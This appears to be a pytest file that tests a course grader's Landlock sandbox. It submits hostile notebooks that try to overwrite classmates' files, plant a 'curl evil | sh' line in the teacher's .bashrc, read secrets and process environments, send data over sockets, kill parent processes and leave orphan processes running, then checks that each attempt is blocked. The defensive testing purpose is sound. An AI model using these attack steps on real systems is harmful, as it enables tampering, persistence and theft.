"""The batch grader confines every kernel (``dlcourse/grading/sandbox.py``, Landlock).

Each hostile notebook below attacks one rule from inside a submission graded by
``dlcourse grade``. Where the attack is stopped inside the kernel (a ``PermissionError``),
the notebook keeps its right answer to ``01.epsilon_greedy``; where it gets through, the
notebook deletes that answer, so the gradebook itself shows which attacks got through. The
test also checks from outside: no file of the class folder or of the teacher's home changed
(content, mode or times), the test's TCP listener and UDP socket received nothing, no process outlives grading, and a notebook that
kills its ancestors leaves a complete gradebook for everyone.
"""
from __future__ import annotations

import csv
import hashlib
import os
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from conftest import ROOT, load_solutions, write_notebook
from dlcourse.grading import exercises, sandbox

SOL = load_solutions("01").SOLUTIONS
CH01 = [ex.id for ex in exercises("01")]
IMPORTS = "import numpy as np\nfrom dlcourse.grading import check, score_table"
ABI = sandbox.abi_version()
MARKER = f"dlcourse-survivor-{os.getpid()}-{time.time_ns()}"

# The cell that tries one attack; ``stopped`` keeps whether every try met a PermissionError.
TRY = """
stopped = []
def attempt(f):
    try:
        f()
    except PermissionError:
        stopped.append(True)
    else:
        stopped.append(False)
"""
# The last cell: the answer survives only when every attempt was stopped.
NAME = next(ex.name for ex in exercises("01") if ex.id == "01.epsilon_greedy")
VERDICT = f"if not (stopped and all(stopped)):\n    del {NAME}"


def _attack(body: str) -> list:
    """A notebook: one right answer, then the attack, then the verdict cell."""
    return [IMPORTS, (SOL["01.epsilon_greedy"], "01.epsilon_greedy"), TRY + body, VERDICT]


def _attacks(cls: Path, home: Path, victim: Path, port: int, udp_port: int, stop_pid: int) -> dict:
    return {
        "write_classmate": _attack(
            f"import os\np = {str(victim)!r}\n"
            "attempt(lambda: open(p, 'w').write('{}'))\n"
            "attempt(lambda: open(p, 'a').write(' '))\n"
            "attempt(lambda: os.truncate(p, 0))\n"
            "attempt(lambda: os.remove(p))\n"
            "attempt(lambda: os.rename(p, p + '.old'))\n"
            "attempt(lambda: os.chmod(p, 0))\n"
            "attempt(lambda: os.utime(p, (0, 0)))\n"),
        "plant_notebook": _attack(
            f"import os\nd = {str(cls)!r}\n"
            "attempt(lambda: open(os.path.join(d, '01_planted.ipynb'), 'w').write('{}'))\n"
            "attempt(lambda: os.mkdir(os.path.join(d, 'planted')))\n"
            "attempt(lambda: os.symlink('/etc/passwd', os.path.join(d, '01_link.ipynb')))\n"),
        "teacher_home": _attack(
            f"import os\nh = {str(home)!r}\n"
            "attempt(lambda: open(os.path.join(h, '.bashrc'), 'a').write('curl evil | sh'))\n"
            "attempt(lambda: open(os.path.join(h, 'planted.txt'), 'w').write('x'))\n"
            "attempt(lambda: open(os.path.join(h, 'secret.txt')).read())\n"
            "attempt(lambda: os.listdir(h))\n"),
        "read_classmate": _attack(
            f"import os\np = {str(victim)!r}\n"
            "attempt(lambda: open(p).read())\n"
            "attempt(lambda: os.listdir(os.path.dirname(p)))\n"
            # the other submissions' work folders sit beside this kernel's own
            "attempt(lambda: os.listdir(os.path.dirname(os.getcwd())))\n"),
        "network": _attack(
            "import socket\n"
            f"attempt(lambda: socket.create_connection(('127.0.0.1', {port}), timeout=3))\n"
            "attempt(lambda: socket.socket().bind(('127.0.0.1', 0)))\n"
            "udp = lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
            f"attempt(lambda: udp().sendto(b'grades', ('127.0.0.1', {udp_port})))\n"),
        "ancestors": _attack(
            "import os, signal\n"
            f"pid, STOP = os.getppid(), {stop_pid}\n"
            "def parent(p):\n"
            "    s = open(f'/proc/{p}/stat').read()\n"
            "    return int(s[s.rindex(')') + 2:].split()[1])\n"
            # kill every ancestor up to (not including) the test itself; read their memory
            "while pid > 1 and pid != STOP:\n"
            "    nxt = parent(pid)\n"
            "    attempt(lambda: open(f'/proc/{pid}/environ', 'rb').read())\n"
            "    attempt(lambda: os.kill(pid, signal.SIGKILL))\n"
            "    pid = nxt\n"),
        "survivor": [IMPORTS, (SOL["01.epsilon_greedy"], "01.epsilon_greedy"),
                     "import subprocess, sys\n"
                     "code = ('import os, time\\nos.setsid()\\nif os.fork(): os._exit(0)\\n'\n"
                     "        'time.sleep(600)')\n"
                     f"subprocess.Popen(['env', '-i', sys.executable, '-c', code, {MARKER!r}],\n"
                     "                 start_new_session=True)\n"
                     f"subprocess.Popen(['setsid', 'sleep', '600.{os.getpid()}'])"],
    }


def _snapshot(*folders: Path) -> dict:
    out = {}
    for folder in folders:
        for p in sorted(folder.rglob("*")):
            st = p.lstat()
            digest = hashlib.sha256(p.read_bytes()).hexdigest() if p.is_file() else ""
            out[str(p)] = (st.st_mode, st.st_size, st.st_mtime_ns, digest)
    return out


def _processes_with(text: str) -> list[int]:
    """Living processes whose command line (arguments joined by spaces) contains ``text``."""
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as fh:
                if text.encode() in fh.read().replace(b"\0", b" "):
                    found.append(int(pid))
        except OSError:
            continue
    return [p for p in found if p != os.getpid()]


class _Listener:
    """A TCP listener and a UDP socket on 127.0.0.1 that count connections and datagrams."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.udp.setblocking(False)
        self.udp_port = self.udp.getsockname()[1]
        self.accepted = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def _run(self):
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.accepted += 1
            conn.close()

    def close(self):
        self._stop.set()
        self._thread.join(timeout=2)
        self.sock.close()
        try:
            while self.udp.recv(64):
                self.accepted += 1
        except BlockingIOError:
            pass
        self.udp.close()


# --------------------------------------------------------------------------- fast checks
def test_describe_says_what_is_missing():
    assert "NOT AVAILABLE" in sandbox.describe(0)
    old = sandbox.describe(3)
    assert "MISSING" in old and "network" in old and "signal" in old
    assert "MISSING" in sandbox.describe(5) and "network" not in sandbox.describe(5)
    assert "MISSING" not in sandbox.describe(7)


def test_confine_stops_writes_outside_its_folder(tmp_path):
    if ABI < 1:
        pytest.skip(sandbox.describe())
    box, outside, mine = tmp_path / "box", tmp_path / "new.txt", tmp_path / "mine.txt"
    box.mkdir()
    mine.write_text("the teacher's")
    mode = mine.stat().st_mode
    code = (
        "import os, socket\nfrom dlcourse.grading import sandbox\n"
        f"sandbox.confine([{str(box)!r}], sandbox.python_read_dirs())\n"
        f"open({str(box / 'ok.txt')!r}, 'w').write('ok')\n"
        "udp = lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        f"for f in (lambda: open({str(outside)!r}, 'w'), lambda: open({str(mine)!r}, 'a'),\n"
        f"          lambda: os.chmod({str(mine)!r}, 0), lambda: udp().sendto(b'x', ('127.0.0.1', 9))):\n"
        "    try:\n"
        "        f()\n"
        "    except PermissionError:\n"
        "        print('stopped')\n")
    proc = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                          timeout=60, cwd=str(box))
    expect = 4 if sandbox.features()["filter"] else 2
    assert proc.stdout.split().count("stopped") == expect, (proc.stdout, proc.stderr)
    assert (box / "ok.txt").read_text() == "ok" and not outside.exists()
    assert mine.read_text() == "the teacher's" and mine.stat().st_mode == mode


def test_kill_tree_ends_setsid_and_double_forked_processes():
    unique = time.time_ns() % 10**9
    marker = f"sleep 600.{unique + 1}"  # built at run time: not in the parent's command line
    code = (
        "import os, sys, time\nfrom dlcourse.grading import sandbox\n"
        "sandbox.become_subreaper()\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        f"        os.execvp('sleep', ['sleep', '600.' + str({unique} + 1)])\n"
        "    os._exit(0)\n"
        "print('ready', flush=True)\ntime.sleep(600)\n")
    proc = subprocess.Popen([sys.executable, "-c", code], stdout=subprocess.PIPE, text=True,
                            start_new_session=True)
    try:
        assert proc.stdout.readline().strip() == "ready"
        for _ in range(100):
            if _processes_with(marker):
                break
            time.sleep(0.05)
        assert _processes_with(marker), "the double-forked sleep did not start"
        assert sandbox.kill_tree(proc.pid) >= 1
        time.sleep(0.2)
        assert not _processes_with(marker)
    finally:
        proc.kill()
        proc.wait()
        for pid in _processes_with(marker):  # never leave one behind, even when the test fails
            os.kill(pid, 9)


# --------------------------------------------------------------------------- attacks
@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    if ABI < 6:
        pytest.skip("this Linux cannot confine kernels fully: " + sandbox.describe())
    base = tmp_path_factory.mktemp("confine")
    cls, home, out_dir = base / "class", base / "home", base / "out"
    for d in (cls, home, out_dir):
        d.mkdir()
    (home / ".bashrc").write_text("# the teacher's\n")
    (home / "secret.txt").write_text("the answers\n")
    honest = [IMPORTS] + [(SOL[e], e) for e in CH01]
    paths = {"honest": write_notebook(cls / "01_honest.ipynb", honest),
             "classmate": write_notebook(cls / "01_classmate.ipynb", honest)}
    listener = _Listener()
    try:
        for name, cells in _attacks(cls, home, paths["classmate"], listener.port, listener.udp_port,
                                    os.getpid()).items():
            paths[name] = write_notebook(cls / f"01_{name}.ipynb", cells)
        before = _snapshot(cls, home)
        out = out_dir / "grades.csv"
        proc = subprocess.run(
            [sys.executable, "-m", "dlcourse.grading", *map(str, paths.values()), "--out", str(out),
             "--jobs", "2", "--timeout", "20", "--total-timeout", "60", "--log", str(out_dir / "log.txt"),
             # the grader's own result cache (by default in ~/.cache) beside its gradebook: the
             # snapshot below is of the class folder and the teacher's home
             "--cache", str(out_dir / "cache")],
            capture_output=True, text=True, timeout=600, cwd=ROOT, env={**os.environ, "HOME": str(home)})
        time.sleep(0.5)
        survivors = _processes_with(MARKER) + _processes_with(f"600.{os.getpid()}")
        after = _snapshot(cls, home)
    finally:
        listener.close()
    for pid in survivors:  # never leave them behind, even when the test fails
        try:
            os.kill(pid, 9)
        except OSError:
            pass
    rows = {}
    if out.exists():
        with open(out, newline="", encoding="utf-8") as fh:
            for r in csv.DictReader(fh):
                name = next(n for n, p in paths.items() if str(p) == r["submission"])
                rows.setdefault(name, {})[r["exercise"]] = r
    return {"proc": proc, "rows": rows, "before": before, "after": after, "paths": paths,
            "accepted": listener.accepted, "survivors": survivors, "log": out_dir / "log.txt"}


@pytest.mark.slow
def test_the_gradebook_is_written_for_everyone(attacked):
    proc = attacked["proc"]
    assert proc.returncode == 0, (proc.returncode, proc.stdout[-2000:], proc.stderr[-2000:])
    assert sorted(attacked["rows"]) == sorted(attacked["paths"])
    for name, rows in attacked["rows"].items():
        assert sorted(rows) == sorted(CH01), name


@pytest.mark.slow
def test_honest_submissions_keep_full_marks(attacked):
    for name in ("honest", "classmate"):
        rows = attacked["rows"][name]
        assert {r["status"] for r in rows.values()} == {"passed"}, (name, rows)


@pytest.mark.slow
@pytest.mark.parametrize("attack", ["write_classmate", "plant_notebook", "teacher_home",
                                    "read_classmate", "network", "ancestors"])
def test_each_attack_is_stopped_inside_the_kernel(attacked, attack):
    row = attacked["rows"][attack]["01.epsilon_greedy"]
    assert row["status"] == "passed", f"{attack} got through: {row}"


@pytest.mark.slow
def test_no_file_outside_the_grader_changed(attacked):
    assert attacked["after"] == attacked["before"]


@pytest.mark.slow
def test_nothing_connected(attacked):
    assert attacked["accepted"] == 0


@pytest.mark.slow
def test_no_process_outlives_grading(attacked):
    assert attacked["survivors"] == []
    assert attacked["rows"]["survivor"]["01.epsilon_greedy"]["status"] == "passed"


@pytest.mark.slow
def test_summary_and_log_say_what_is_confined(attacked):
    line = sandbox.describe()
    assert line in attacked["proc"].stdout
    assert attacked["log"].read_text(encoding="utf-8").count(line) == 1


@pytest.mark.slow
def test_an_older_linux_is_named_and_grading_goes_on(tmp_path):
    """As on Linux 6.2-6.6 (Landlock ABI 3: no network rules, no signal scoping): the summary
    and the log say what is missing, grading still runs, the seccomp filter still keeps the
    grader and the processes above it from being killed."""
    if ABI < 3 or not sandbox.features()["filter"]:
        pytest.skip(sandbox.describe())
    cls = tmp_path / "class"
    cls.mkdir()
    honest = write_notebook(cls / "01_honest.ipynb", [IMPORTS] + [(SOL[e], e) for e in CH01])
    victim = write_notebook(cls / "01_victim.ipynb", [IMPORTS])
    attacks = _attacks(cls, tmp_path, victim, 9, 9, os.getpid())
    paths = [honest] + [write_notebook(cls / f"01_{n}.ipynb", attacks[n])
                        for n in ("ancestors", "write_classmate")]
    out, log = tmp_path / "grades.csv", tmp_path / "log.txt"
    proc = subprocess.run(
        [sys.executable, "-m", "dlcourse.grading", *map(str, paths), "--out", str(out),
         "--jobs", "2", "--timeout", "20", "--log", str(log)],
        capture_output=True, text=True, timeout=600, cwd=ROOT,
        env={**os.environ, "DLCOURSE_SANDBOX_MAX_ABI": "3"})
    assert proc.returncode == 0, proc.stderr[-2000:]
    line = sandbox.describe(3)
    assert "MISSING" in line and "network" in line and "signal scoping" in line
    assert line in proc.stdout and log.read_text(encoding="utf-8").count(line) == 1
    with open(out, newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    status = {(Path(r["submission"]).stem, r["exercise"]): r["status"] for r in rows}
    assert len(rows) == 3 * len(CH01)
    assert all(status[("01_honest", e)] == "passed" for e in CH01)
    assert status[("01_ancestors", "01.epsilon_greedy")] == "passed"  # every kill was refused
    assert status[("01_write_classmate", "01.epsilon_greedy")] == "passed"
